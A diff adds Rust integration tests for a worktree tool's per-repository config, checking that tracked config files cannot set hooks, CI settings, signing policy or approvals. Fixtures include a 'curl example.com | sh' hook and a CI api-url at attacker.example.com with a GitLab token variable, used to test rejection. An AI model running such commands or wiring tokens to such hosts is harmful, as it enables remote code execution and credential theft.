@@ -0,0 +1,208 @@
+//! Integration tests for per-repository config (`.worktrunk.toml`, `.git/worktrunk.toml`)
+
+use crate::common::{TestRepo, listed_branches, make_snapshot_cmd, repo, setup_snapshot_settings};
+use insta_cmd::assert_cmd_snapshot;
+use rstest::rstest;
+
+const LIST_JSON: &[&str] = &["list", "--format", "json"];
+
+#[rstest]
+fn test_repo_config_layers_over_user_config(repo: TestRepo) {
+    repo.run_git(&["branch", "feature"]);
+    repo.write_test_config("[list]\nbranches = false\n");
+    assert_eq!(listed_branches(&repo, LIST_JSON, &[]), ["main"]);
+
+    // The tracked file overrides the user config
+    std::fs::write(
+        repo.root_path().join(".worktrunk.toml"),
+        "[list]\nbranches = true\n",
+    )
+    .unwrap();
+    assert_eq!(listed_branches(&repo, LIST_JSON, &[]), ["main", "feature"]);
+
+    // The clone-local file overrides the tracked one
+    std::fs::write(
+        repo.root_path().join(".git/worktrunk.toml"),
+        "[list]\nbranches = false\n",
+    )
+    .unwrap();
+    assert_eq!(listed_branches(&repo, LIST_JSON, &[]), ["main"]);
+}
+
+#[rstest]
+fn test_repo_config_applies_in_linked_worktree(mut repo: TestRepo) {
+    repo.run_git(&["branch", "other"]);
+    let feature = repo.add_worktree("feature");
+    std::fs::write(
+        repo.root_path().join(".git/worktrunk.toml"),
+        "[list]\nbranches = true\n",
+    )
+    .unwrap();
+
+    let output = make_snapshot_cmd(&repo, "list", &["--format", "json"], Some(&feature))
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains(r#""branch": "other""#), "stdout: {stdout}");
+}
+
+#[rstest]
+fn test_repo_config_rejects_tracked_hooks(repo: TestRepo) {
+    std::fs::write(
+        repo.root_path().join(".worktrunk.toml"),
+        "[post-create]\nsetup = \"curl example.com | sh\"\n",
+    )
+    .unwrap();
+
+    let settings = setup_snapshot_settings(&repo);
+    settings.bind(|| {
+        let mut cmd = make_snapshot_cmd(&repo, "list", &[], None);
+        assert_cmd_snapshot!("repo_config_rejects_tracked_hooks", cmd);
+    });
+}
+
+#[rstest]
+fn test_repo_config_rejects_unlisted_tracked_keys(repo: TestRepo) {
+    for (contents, key) in [
+        ("log-file = \"/tmp/wt.log\"\n", "log-file"),
+        ("[alias]\nls = \"list --branches\"\n", "alias"),
+        ("[ci]\ntoken-env = \"HOME\"\n", "ci"),
+        (
+            "[profiles.ci]\nlog-file = \"/tmp/wt.log\"\n",
+            "profiles.\"ci\".log-file",
+        ),
+        ("[merge]\nsign = false\n", "merge.sign"),
+        ("[switch]\nlfs-pull = true\n", "switch.lfs-pull"),
+        (
+            "[if.\"*\".merge]\nrequire-ci = false\n",
+            "if.\"*\".merge.require-ci",
+        ),
+    ] {
+        std::fs::write(repo.root_path().join(".worktrunk.toml"), contents).unwrap();
+        let output = make_snapshot_cmd(&repo, "list", &[], None)
+            .output()
+            .unwrap();
+        assert!(!output.status.success(), "{key} was accepted");
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert!(
+            stderr.contains(&format!("{key} can't be set here")),
+            "{stderr}"
+        );
+    }
+
+    // The untracked file can set them
+    std::fs::remove_file(repo.root_path().join(".worktrunk.toml")).unwrap();
+    std::fs::write(
+        repo.root_path().join(".git/worktrunk.toml"),
+        "[alias]\nls = \"list --branches\"\n",
+    )
+    .unwrap();
+    let output = make_snapshot_cmd(&repo, "ls", &[], None).output().unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+}
+
+/// A tracked file can't relax the signing policy from the user config
+#[rstest]
+fn test_repo_config_cannot_loosen_push_require_signed(mut repo: TestRepo) {
+    repo.write_test_config("[push]\nrequire-signed = true\n");
+    let feature_wt =
+        repo.add_worktree_with_commit("feature", "test.txt", "test content", "Add test file");
+    std::fs::write(
+        feature_wt.join(".worktrunk.toml"),
+        "[push]\nrequire-signed = false\n",
+    )
+    .unwrap();
+    let main_before = repo.git_output(&["rev-parse", "main"]);
+
+    let output = make_snapshot_cmd(&repo, "step", &["push", "main"], Some(&feature_wt))
+        .output()
+        .unwrap();
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("push can't be set here"), "{stderr}");
+    assert_eq!(repo.git_output(&["rev-parse", "main"]), main_before);
+
+    // Merging in a tracked file's [merge] settings doesn't drop it either
+    std::fs::write(
+        feature_wt.join(".worktrunk.toml"),
+        "[merge]\nsquash = false\n",
+    )
+    .unwrap();
+    let output = make_snapshot_cmd(&repo, "step", &["push", "main"], Some(&feature_wt))
+        .output()
+        .unwrap();
+    assert!(!output.status.success());
+    assert!(String::from_utf8_lossy(&output.stderr).contains("not signed"));
+    assert_eq!(repo.git_output(&["rev-parse", "main"]), main_before);
+}
+
+#[rstest]
+fn test_repo_config_ci_only_from_untracked_file(repo: TestRepo) {
+    let ci = "[ci]\napi-url = \"https://attacker.example.com\"\ntoken-env = \"GITLAB_TOKEN\"\n";
+
+    // Neither directly nor through a conditional section
+    for (contents, key) in [
+        (ci, "ci"),
+        (
+            "[if.\"*\".ci]\napi-url = \"https://attacker.example.com\"\n",
+            "if.\"*\".ci",
+        ),
+    ] {
+        std::fs::write(repo.root_path().join(".worktrunk.toml"), contents).unwrap();
+        let output = make_snapshot_cmd(&repo, "list", &[], None)
+            .output()
+            .unwrap();
+        assert!(!output.status.success(), "{key} was accepted");
+        let stderr = String::from_utf8_lossy(&output.stderr);
+        assert!(
+            stderr.contains(&format!("{key} can't be set here")),
+            "{stderr}"
+        );
+    }
+
+    std::fs::remove_file(repo.root_path().join(".worktrunk.toml")).unwrap();
+    std::fs::write(repo.root_path().join(".git/worktrunk.toml"), ci).unwrap();
+    let output = make_snapshot_cmd(&repo, "list", &[], None)
+        .output()
+        .unwrap();
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+}
+
+#[rstest]
+fn test_repo_config_rejects_approvals(repo: TestRepo) {
+    std::fs::write(
+        repo.root_path().join(".git/worktrunk.toml"),
+        "[projects.\"repo\"]\napproved-commands = [\"make\"]\n",
+    )
+    .unwrap();
+
+    let output = make_snapshot_cmd(&repo, "list", &[], None)
+        .output()
+        .unwrap();
+    assert!(!output.status.success());
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("projects can't be set here"), "{stderr}");
+}
+
+#[rstest]
+fn test_config_show_repo_config(repo: TestRepo) {
+    std::fs::write(
+        repo.root_path().join(".worktrunk.toml"),
+        "worktree-path = \".worktrees/{{ branch | sanitize }}\"\n",
+    )
+    .unwrap();
+
+    let settings = setup_snapshot_settings(&repo);
+    settings.bind(|| {
+        let mut cmd = make_snapshot_cmd(&repo, "config", &["show"], None);
+        assert_cmd_snapshot!("config_show_repo_config", cmd);
+    });
+}